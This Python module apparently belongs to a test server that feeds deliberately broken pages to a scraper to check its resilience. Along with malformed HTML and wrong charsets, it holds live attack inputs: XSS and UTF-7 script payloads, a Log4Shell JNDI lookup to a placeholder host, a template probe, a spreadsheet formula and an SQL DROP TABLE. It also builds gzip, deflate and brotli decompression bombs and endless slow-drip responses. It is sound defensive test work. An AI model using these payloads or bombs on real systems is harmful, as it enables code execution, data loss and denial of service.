"""What a bad page does to its reader, one function each: (the page as it should be, its address) -> response."""

from __future__ import annotations

import asyncio
import gzip
import zlib
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from functools import cache

from starlette.responses import HTMLResponse, Response, StreamingResponse

from demo import misdirections
from demo.misdirections import Asked

HUGE_BYTES = 50_000_000
BOMB_BYTES = 300_000_000
DEEP = 10_000
FOREVER_S = 3600.0


Serve = Callable[[Asked], Response]


def broken_html(asked: Asked) -> Response:
    """Closing tags gone, quotes unbalanced, cut in the middle of a tag."""
    broken = asked.html.replace("</div>", "").replace("</a>", "").replace('class="row', "class='row")
    return HTMLResponse(broken.replace("</html>", "<table><tr><<td>&nosuch; <div class="))


def wrong_charset(asked: Asked) -> Response:
    """Bytes of windows-1251 that call themselves UTF-8."""
    return Response(asked.html.encode("cp1251", "replace"), media_type="text/html; charset=utf-8")


def unknown_charset(asked: Asked) -> Response:
    return Response(asked.html.encode(), headers={"content-type": "text/html; charset=x-none-such"})


def wide_charset(asked: Asked) -> Response:
    """UTF-8 that calls itself UTF-16."""
    return Response(asked.html.encode(), headers={"content-type": "text/html; charset=utf-16"})


def seven_bits(asked: Asked) -> Response:
    """UTF-7, in which markup can hide: no browser reads it any more."""
    hidden = asked.html.replace("words", "words +ADw-script+AD4-alert(1)+ADw-/script+AD4-")
    return Response(hidden.encode(), headers={"content-type": "text/html; charset=utf-7"})


def charset_that_is_a_codec(asked: Asked) -> Response:
    """A codec of Python's that is no charset."""
    return Response(asked.html.encode(), headers={"content-type": "text/html; charset=zlib_codec"})


def two_charsets(asked: Asked) -> Response:
    """The header says one thing, the page another, and the bytes a third."""
    html = asked.html.replace("<head>", '<head><meta charset="shift_jis">').replace("words", "w\u00f6rds words")
    return Response(html.encode(), headers={"content-type": "text/html; charset=koi8-r"})


def wrong_mark(asked: Asked) -> Response:
    """UTF-8 behind a byte-order mark of UTF-8 that is there three times."""
    return Response(b"\xef\xbb\xbf" * 3 + asked.html.encode(), media_type="text/html")


def null_bytes(asked: Asked) -> Response:
    """NUL, control characters and a lone surrogate in the middle of the words."""
    return HTMLResponse(asked.html.replace("words", "wo\0r\x01d\x1bs &#xD800;\u202e end"))


def deep_nesting(asked: Asked) -> Response:
    return HTMLResponse(asked.html.replace("words", "<div>" * DEEP + "words" + "</div>" * DEEP))


def injection(asked: Asked) -> Response:
    """Text that wants to be run, rendered or calculated by whoever shows it."""
    evil = (
        "words <script>alert(1)</script><img src=x onerror=alert(1)>&lt;script&gt;alert(2)&lt;/script&gt; "
        "{{7*7}} ${jndi:ldap://x.example/a} =HYPERLINK(&quot;http://x.example&quot;) '; DROP TABLE entry; -- "
        "&lt;!channel&gt; [click](javascript:alert(1))"
    )
    return HTMLResponse(asked.html.replace("words", evil))


def huge_body(asked: Asked) -> Response:
    """50 MB that say so in advance."""
    return StreamingResponse(
        _repeated(b"<p>nothing</p>\n", HUGE_BYTES), media_type="text/html", headers={"content-length": str(HUGE_BYTES)}
    )


def huge_body_unannounced(asked: Asked) -> Response:
    return StreamingResponse(_repeated(b"<p>nothing</p>\n", HUGE_BYTES), media_type="text/html")


async def _repeated(piece: bytes, total: int) -> AsyncIterator[bytes]:
    block = piece * (65_536 // len(piece))
    sent = 0
    while sent < total:
        part = block[: total - sent]
        sent += len(part)
        yield part


@cache
def _bomb() -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = bytes(1_000_000)
    packed = b"".join(packer.compress(block) for _ in range(BOMB_BYTES // len(block)))
    return packed + packer.flush()


def gzip_bomb(asked: Asked) -> Response:
    """300 kB that unpack to 300 MB."""
    return Response(_bomb(), media_type="text/html", headers={"content-encoding": "gzip"})


def deflate_bomb(asked: Asked) -> Response:
    packer = zlib.compressobj(9)
    block = bytes(1_000_000)
    packed = b"".join(packer.compress(block) for _ in range(50)) + packer.flush()
    return Response(packed, media_type="text/html", headers={"content-encoding": "deflate"})


def brotli_bomb(asked: Asked) -> Response:
    """80 bytes that unpack to 50 MB."""
    packed = bytes.fromhex(
        "cbffff3ff82700e2b14020f7fe8fffff7ff04f00c4611180eefd1fffffffe09f0088c30200ddfb3f"
        "feffffc13f0110870500baf77ffcffff837f02200e0b0074effff20f5e0fff04401c1600e8a0eb01"
    )
    return Response(packed, media_type="text/html", headers={"content-encoding": "br"})


def gzip_in_gzip_bomb(asked: Asked) -> Response:
    """The bomb packed once more: a few kB."""
    packed = gzip.compress(_bomb(), mtime=0)
    return Response(packed, media_type="text/html", headers={"content-encoding": "gzip, gzip"})


def unknown_packing(asked: Asked) -> Response:
    return Response(asked.html, media_type="text/html", headers={"content-encoding": "tide"})


def lying_gzip(asked: Asked) -> Response:
    """Says gzip and is none."""
    return Response(asked.html, media_type="text/html", headers={"content-encoding": "gzip"})


def cut_short(asked: Asked) -> Response:
    """Announces the whole page, sends half and hangs up."""
    body = asked.html.encode()

    async def half() -> AsyncIterator[bytes]:
        yield body[: len(body) // 2]

    return StreamingResponse(half(), media_type="text/html", headers={"content-length": str(len(body))})


def login_page(asked: Asked) -> Response:
    """Status 200, and a login form where the thread should be."""
    return HTMLResponse(asked.login)


def empty_page(asked: Asked) -> Response:
    return HTMLResponse("")


def hollow_page(asked: Asked) -> Response:
    """The frame of the place with nothing in it."""
    head, _, rest = asked.html.partition('role="main">')
    return HTMLResponse(
        f'{head}role="main">\n</div>\n<div id="page-footer"' + rest.partition('<div id="page-footer"')[2]
    )


def other_layout(asked: Asked) -> Response:
    """A page in a markup no profile knows."""
    return HTMLResponse("<html><body><main><section><h1>Welcome</h1><span>We have moved house.</span></section></main>")


def image(asked: Asked) -> Response:
    return Response(b"\x89PNG\r\n\x1a\n" + bytes(2000), media_type="image/png")


def archive(asked: Asked) -> Response:
    headers = {"content-disposition": 'attachment; filename="sample.zip"'}
    return Response(b"PK\x03\x04" + bytes(2000), media_type="application/zip", headers=headers)


def image_called_html(asked: Asked) -> Response:
    return Response(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20, media_type="text/html")


def untyped(asked: Asked) -> Response:
    """No Content-Type at all."""
    return Response(asked.html.encode())


def drip(asked: Asked) -> Response:
    """A few bytes now and then, for an hour: no single wait is long."""

    async def drops() -> AsyncIterator[bytes]:
        yield b"<html><body>"
        for _ in range(int(FOREVER_S / 0.2)):
            await asyncio.sleep(0.2)
            yield b"<p>.</"

    return StreamingResponse(drops(), media_type="text/html")


def stall(asked: Asked) -> Response:
    """Half a page, then silence."""

    async def half() -> AsyncIterator[bytes]:
        yield asked.html.encode()[:2000]
        await asyncio.sleep(FOREVER_S)

    return StreamingResponse(half(), media_type="text/html")


def server_error(asked: Asked) -> Response:
    return HTMLResponse("<h1>General Error</h1>SQL ERROR [ mysqli ]", 503)


def gone(asked: Asked) -> Response:
    return HTMLResponse("<h1>Gone</h1>", 410)


@dataclass(frozen=True, slots=True)
class Misbehaviour:
    """is_readable: a reader of the page can still get its post (perhaps with some letters wrong);
    takes_s: a reader without a deadline of its own waits about that long."""

    serve: Serve
    is_readable: bool = False
    takes_s: float = 0.0

    @property
    def name(self) -> str:
        return self.serve.__name__


_READABLE = (
    broken_html, wrong_charset, unknown_charset, null_bytes, deep_nesting, injection, wide_charset, seven_bits,
    charset_that_is_a_codec, two_charsets, wrong_mark, *misdirections.READABLE,
)  # fmt: skip
_LOST = (
    huge_body, huge_body_unannounced, gzip_bomb, deflate_bomb, brotli_bomb, gzip_in_gzip_bomb, unknown_packing,
    lying_gzip, cut_short, login_page, empty_page, hollow_page, other_layout, image, archive, image_called_html,
    untyped, server_error, gone, *misdirections.LOST,
)  # fmt: skip
MISBEHAVIOURS: dict[str, Misbehaviour] = {
    one.name: one
    for one in (
        *(Misbehaviour(serve, is_readable=True) for serve in _READABLE),
        *(Misbehaviour(serve) for serve in _LOST),
        Misbehaviour(drip, takes_s=FOREVER_S),
        Misbehaviour(stall, takes_s=FOREVER_S),
    )
}
